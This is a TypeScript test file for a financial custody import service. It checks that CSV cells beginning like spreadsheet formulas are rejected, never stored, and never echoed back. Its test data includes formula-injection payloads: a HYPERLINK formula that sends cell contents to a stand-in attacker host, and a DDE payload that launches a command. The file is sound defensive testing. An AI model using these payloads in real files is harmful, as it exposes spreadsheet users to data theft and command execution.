import { sql } from 'kysely'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { sendCustodyFile } from '../support/send-custody-file.ts'
import { startSystem, type System } from '../support/system.ts'

// Cells that a spreadsheet would run, in a file that comes in: refused by name, nothing of the file is stored, and the
// answer does not give them back.

let system: System
beforeAll(async () => {
  system = await startSystem()
})
afterAll(() => system[Symbol.asyncDispose]())

const fileOf = (kind: string, cell: string): string => {
  const quoted = `"${cell.replaceAll('"', '""')}"`
  return kind === 'accounts'
    ? `as_of_date,account_number,account_type,status,household_ref,custodian,rep_code\n2026-11-02,99887766,IRA,OPEN,hh-1,X,${quoted}\n`
    : `trade_date,account_number,type,net_amount,source_txn_id\n2026-11-02,99887766,DIVIDEND,1.00,${quoted}\n`
}

test.each([
  ['accounts', 'rep_code', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
  ['accounts', 'rep_code', '@SUM(1+1)*cmd'],
  ['accounts', 'rep_code', '\t=1+1'],
  ['transactions', 'source_txn_id', "+cmd|' /C calc'!A0"],
  ['transactions', 'source_txn_id', '-2+3+cmd'],
  ['transactions', 'source_txn_id', '\r\n=1+1'],
])('%s with %s %j', async (kind, column, cell) => {
  const { status, json, text } = await sendCustodyFile(system, { kind, file: fileOf(kind, cell) })
  expect(status).toBe(422)
  expect(json.rejects).toContainEqual({
    line: expect.any(Number),
    column,
    code: 'FORMULA',
    message: `${column} begins like a formula`,
  })
  expect(text).not.toContain('cmd')
  expect(text).not.toContain('evil.example')
  const { rows } = await sql<{ n: number }>`
    select count(*) as n from imports where import_id = ${json.importId} and status = 'ACCEPTED'`.execute(
    system.database.db,
  )
  expect(Number(rows[0]?.n)).toBe(0)
  expect((await system.get(`/api/custody/imports/${json.importId}`, 'operations')).text).not.toMatch(
    /cmd|evil/,
  )
})
